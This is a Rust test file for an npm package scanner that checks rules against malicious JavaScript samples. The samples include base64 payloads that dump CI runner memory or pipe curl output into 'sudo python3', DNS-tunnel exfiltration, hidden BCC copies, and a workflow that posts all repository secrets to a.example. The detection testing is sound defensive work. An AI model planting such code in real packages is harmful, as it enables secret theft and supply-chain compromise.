//! Programs, addresses and data that are kept out of sight, and honest code that looks alike.
#![expect(clippy::unwrap_used, reason = "test code")]

use packguard_javascript::JavaScript;
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analysis, Analyzer as _, Severity};

fn package(files: &[(&str, &str)]) -> Analysis {
    let mut builder = PackageBuilder::new("npm", "sample");
    for (path, content) in files {
        builder = builder.file(&format!("package/{path}"), content);
    }
    JavaScript::analyze(&builder.build()).unwrap()
}

fn import(code: &str) -> Analysis {
    package(&[
        ("package.json", r#"{"name":"sample","main":"index.js"}"#),
        ("index.js", code),
    ])
}

fn install(code: &str) -> Analysis {
    package(&[
        (
            "package.json",
            r#"{"name":"sample","scripts":{"preinstall":"node i.js"}}"#,
        ),
        ("i.js", code),
    ])
}

fn execute(code: &str) -> Analysis {
    package(&[
        ("package.json", r#"{"name":"sample"}"#),
        ("lib/tool.js", code),
    ])
}

#[track_caller]
fn finds(analysis: &Analysis, code: &str, rule: &str, least: Severity) {
    assert!(
        analysis
            .findings()
            .iter()
            .any(|finding| finding.rule == rule && finding.severity >= least),
        "{rule} at {least:?} not in {:#?}\n{code}",
        analysis
            .findings()
            .iter()
            .map(|finding| (&finding.rule, finding.severity, &finding.title))
            .collect::<Vec<_>>()
    );
}

#[track_caller]
fn quiet(analysis: &Analysis, code: &str) {
    let loud: Vec<_> = analysis
        .findings()
        .iter()
        .filter(|finding| finding.severity >= Severity::Medium)
        .map(|finding| (&finding.rule, finding.severity, &finding.title))
        .collect();
    assert!(loud.is_empty(), "{loud:#?}\n{code}");
}

/// A script that reads the memory of a build's process, and one that downloads and runs.
const DUMP: &str = "aW1wb3J0IG9zCmZvciBwIGluIG9zLmxpc3RkaXIoJy9wcm9jJyk6CiAgaWYgYidSdW5uZXIuV29ya2VyJyBpbiBvcGVuKCcvcHJvYy8nK3ArJy9jbWRsaW5lJywncmInKS5yZWFkKCk6IHByaW50KG9wZW4oJy9wcm9jLycrcCsnL21lbScsJ3JiJykpCg==";
const FETCH: &str = "IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9hLmV4YW1wbGUveC5weSB8IHN1ZG8gcHl0aG9uMwo=";
/// `https://relay.example/v1/ingest`.
const ADDRESS: &str = "aHR0cHM6Ly9yZWxheS5leGFtcGxlL3YxL2luZ2VzdA==";

#[test]
fn decoded_files_that_are_started_are_found() {
    for code in [
        format!(
            "const fs=require('fs'),cp=require('child_process');fs.writeFileSync('/tmp/run.py',Buffer.from('{DUMP}','base64'));cp.execSync('sudo python3 /tmp/run.py | sort -u')"
        ),
        format!(
            "const fs=require('fs'),{{exec}}=require('child_process');const f=require('os').tmpdir()+'/r.py';fs.writeFileSync(f,atob('{DUMP}'));exec(`python3 ${{f}}`)"
        ),
    ] {
        finds(&execute(&code), &code, "js-memory-dump", Severity::High);
    }
    let code = format!(
        "const fs=require('fs'),cp=require('child_process');exports.a=()=>{{const f='/tmp/run.sh';fs.writeFileSync(f,Buffer.from('{FETCH}','base64').toString());cp.exec(`bash ${{f}}`)}}"
    );
    finds(
        &execute(&code),
        &code,
        "js-shell-download-run",
        Severity::High,
    );
    finds(&execute(&code), &code, "js-decode-eval", Severity::Medium);
    let bundle = format!(
        "(()=>{{var m={{2081:e=>{{e.exports=require('child_process')}},7147:(e)=>{{e.exports=require('fs')}},\
         9:(e,t,n)=>{{const c=n(2081),s=n(7147);s.writeFileSync('/tmp/a.sh',atob('{FETCH}'));c.exec('sh /tmp/a.sh')}}}}}})()"
    );
    finds(
        &execute(&bundle),
        &bundle,
        "js-decode-eval",
        Severity::Medium,
    );
}

#[test]
fn programs_that_are_unpacked_from_data_are_found() {
    let code = "const z=require('zlib'),f=require('fs'),p=require('path'),{spawn:s}=require('child_process');\
        const b=f.readFileSync(p.join(__dirname,'intro.js'));const t=p.join(require('os').tmpdir(),'.x');\
        f.writeFileSync(t,z.gunzipSync(b.subarray(26)),{mode:493});s(t,[],{detached:true}).unref()";
    finds(&install(code), code, "js-bundled-program", Severity::High);
    // What a caller asks for is no secret of the package.
    let code = "const z=require('zlib'),f=require('fs');exports.unpack=(a,b)=>f.writeFileSync(b,z.gunzipSync(f.readFileSync(a)))";
    quiet(&import(code), code);
}

#[test]
fn addresses_that_are_decoded_are_found() {
    for code in [
        format!("fetch(atob('{ADDRESS}'),{{method:'POST',body:JSON.stringify(process.uptime())}})"),
        format!(
            "const d=s=>Buffer.from(s,'base64').toString();require('https').get(d('{ADDRESS}'))"
        ),
        format!(
            "const u=Buffer.from('{ADDRESS}','base64').toString('utf8');require('axios').post(u,{{}})"
        ),
    ] {
        finds(&import(&code), &code, "js-hidden-address", Severity::High);
        finds(
            &execute(&code),
            &code,
            "js-hidden-address",
            Severity::Medium,
        );
    }
    let code = "fetch('https://relay.example/v1/ingest')";
    quiet(&import(code), code);
}

#[test]
fn data_in_host_names_is_found() {
    for code in [
        "const dns=require('dns').promises;exports.f=async(t)=>{const p=Buffer.from(t).toString('hex').match(/.{1,62}/g)||[];for(let i=0;i<p.length;i++)await dns.resolve4(`${p[i]}.${i}.z.example`)}",
        "const d=require('dns');exports.f=(t)=>{const h=Buffer.from(t).toString('hex');for(let i=0;i<h.length;i+=60)d.lookup(h.slice(i,i+60)+'.x.z.example',()=>{})}",
        "const net=require('net');exports.f=(t)=>Buffer.from(t).toString('hex').match(/.{1,56}/g).forEach((l,i)=>net.connect({port:443,host:`${l}.${i}.r.z.example`}))",
    ] {
        finds(
            &execute(code),
            code,
            "js-data-in-host-names",
            Severity::High,
        );
    }
    let code =
        "const dns=require('dns');exports.f=(name)=>dns.resolve4(`${name}.zen.example`,()=>{})";
    quiet(&import(code), code);
}

#[test]
fn blind_copies_are_found() {
    for key in ["bcc:", "Bcc: ", "'bcc': ", "\"Bcc\": [", "bcc :"] {
        let end = if key.contains('[') { "]" } else { "" };
        let code =
            format!("exports.s=(c,to)=>c.sendEmail({{To:to,{key}'phan@shop.example'{end}}})");
        finds(&import(&code), &code, "js-blind-copy", Severity::High);
    }
    let code = "exports.s=(c,to,bcc)=>c.sendEmail({To:to,bcc,from:'me@shop.example'})";
    quiet(&import(code), code);
}

#[test]
fn obfuscated_code_out_of_sight_is_grave() {
    let blanks = " ".repeat(220);
    let code = format!(
        "exports.a=1;\n{blanks}const _0x1a2b=require('os'),_0x1a2c=_0x1a2b.type(),_0x1a2d=_0x1a2c+_0x1a2c;console.log(_0x1a2d)"
    );
    finds(
        &import(&code),
        &code,
        "js-hidden-by-whitespace",
        Severity::High,
    );
}

#[test]
fn workflows_that_send_secrets_are_found() {
    let code = "const fs=require('fs'),path=require('path');const n=fs.readdirSync('.');\
        const y=`on: push\njobs:\n  a:\n    steps:\n      - run: curl -d '${n.map(x=>'${{ secrets.'+x+' }}').join('&')}' https://a.example`;\
        fs.writeFileSync(path.join(process.env.GITHUB_WORKSPACE,'.github/workflows/security.yml'),y)";
    finds(&import(code), code, "js-self-propagation", Severity::High);
    let code = "exports.names=['shai-hulud','Shai-Hulud: The Second Coming']";
    quiet(&import(code), code);
}

#[test]
fn scripts_among_tests_need_not_be_scripts() {
    let broken = "function ( { this is no script";
    let analysis = package(&[
        ("package.json", r#"{"name":"sample"}"#),
        ("tests/broken.js", broken),
    ]);
    finds(&analysis, broken, "js-unparsed", Severity::Info);
    assert_eq!(analysis.problems(), []);
    let analysis = package(&[
        ("package.json", r#"{"name":"sample"}"#),
        ("broken.js", broken),
    ]);
    assert_eq!(analysis.problems().len(), 1);
}
